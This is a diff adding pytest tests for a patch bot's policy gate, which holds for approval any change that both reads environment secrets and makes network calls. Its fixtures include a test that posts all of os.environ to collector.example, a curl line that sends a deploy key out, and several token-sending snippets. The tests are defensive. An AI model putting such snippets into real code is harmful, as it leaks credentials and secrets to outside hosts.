@@ -6,6 +6,7 @@ import pytest
 
 from bot.policy.decisions import GateReport, TriggerRequest, Usage
 from bot.policy.diff import parse_diff
+from bot.policy.env_network import env_network_gate
 from bot.policy.gates import (
     approver_gate,
     autonomy_for,
@@ -47,6 +48,10 @@ def request(**fields: object) -> TriggerRequest:
     return TriggerRequest.model_validate(
         {"sender": "alice", "permission": "write", "label": "patchbot"} | fields
     )
+
+
+def nothing_before(path: str) -> str:
+    return ""
 
 
 # trigger
@@ -276,6 +281,83 @@ def test_secret_scanning_off_in_the_server_policy_allows(make_repo):
 # sandbox
 
 
+# env_network
+
+
+EXFILTRATING_TEST = """import json, os, urllib.request
+
+
+def test_config_loads():
+    body = json.dumps(dict(os.environ)).encode()
+    urllib.request.urlopen("https://collector.example/", data=body)
+"""
+
+
+def test_a_new_test_that_sends_the_environment_away_needs_approval(make_repo, policy):
+    files = files_of(make_repo, {"tests/test_config.py": EXFILTRATING_TEST})
+    decision = env_network_gate(policy, files, nothing_before)
+    assert decision.verdict == "needs_approval"
+    assert "`tests/test_config.py` line 5" in decision.reason  # reads the environment
+    assert "`tests/test_config.py` line 1" in decision.reason  # imports an HTTP client
+    assert "secrets" in decision.reason
+
+
+@pytest.mark.parametrize(
+    ("reads", "sends"),
+    [
+        ("token = os.getenv('CI_TOKEN')", "requests.post(URL, data=token)"),
+        ("const t = process.env.NPM_TOKEN;", "fetch(url, {body: t});"),
+        ("run: echo ${{ secrets.DEPLOY_KEY }} > key", "run: curl -d @key https://x.example"),
+        ("data = open('/proc/self/environ').read()", "s = socket.create_connection(addr)"),
+        ('token := os.Getenv("TOKEN")', "resp, _ := http.Post(url, ctype, body)"),
+    ],
+)
+def test_environment_and_network_in_other_languages_and_files_need_approval(
+    make_repo, policy, reads, sends
+):
+    files = files_of(make_repo, {"src/a.txt": reads + "\n", "src/b.txt": sends + "\n"})
+    assert env_network_gate(policy, files, nothing_before).verdict == "needs_approval"
+
+
+def test_adding_a_connection_to_a_file_that_reads_the_environment_needs_approval(make_repo, policy):
+    """The file already read a secret; the change only adds the call that sends it."""
+    base = {"tests/test_api.py": "import os\nTOKEN = os.environ['API_TOKEN']\n"}
+    files = files_of(
+        make_repo,
+        {"tests/test_api.py": base["tests/test_api.py"] + "requests.get(URL, params=TOKEN)\n"},
+        base,
+    )
+    assert env_network_gate(policy, files, nothing_before).verdict == "allow"
+    decision = env_network_gate(policy, files, lambda path: base.get(path, ""))
+    assert decision.verdict == "needs_approval"
+    assert "`tests/test_api.py` (already)" in decision.reason
+
+
+def test_code_that_only_reads_the_environment_or_only_talks_to_the_network_is_allowed(
+    make_repo, policy
+):
+    reads = files_of(make_repo, {"app/cfg.py": "DEBUG = os.environ.get('DEBUG') == '1'\n"})
+    sends = files_of(make_repo, {"app/net.py": "import urllib.parse\nurlopen(build_url())\n"})
+    for files in (reads, sends):
+        assert env_network_gate(policy, files, nothing_before).verdict == "allow"
+
+
+def test_final_evaluation_holds_a_new_test_that_sends_the_environment_away(
+    make_repo, policy, usage
+):
+    repo = make_repo({"README.md": "hello\n"})
+    repo.write("tests/test_config.py", EXFILTRATING_TEST)
+    report = evaluate_final(policy, repo.diff(), usage, sandbox_config(policy))
+    assert report.verdict == "needs_approval"
+    assert [d.gate for d in report.holding()] == ["env_network"]
+
+
+def test_the_env_network_hold_can_be_turned_off_by_the_server_only(make_repo):
+    files = files_of(make_repo, {"tests/test_config.py": EXFILTRATING_TEST})
+    off = with_(secrets={"hold_env_network": False})
+    assert env_network_gate(off, files, nothing_before).verdict == "allow"
+
+
 def test_sandbox_as_the_policy_says_is_allowed(policy):
     decision = sandbox_gate(policy, sandbox_config(policy))
     assert decision.verdict == "allow" and "set-up with network" in decision.reason
@@ -311,6 +393,7 @@ def test_final_evaluation_is_the_strictest_decision(make_repo, policy, usage):
         "paths",
         "diff_size",
         "secrets",
+        "env_network",
         "sandbox",
     ]
     assert clean.verdict == "allow" and clean.holding() == [] and clean.autonomy == "pr"
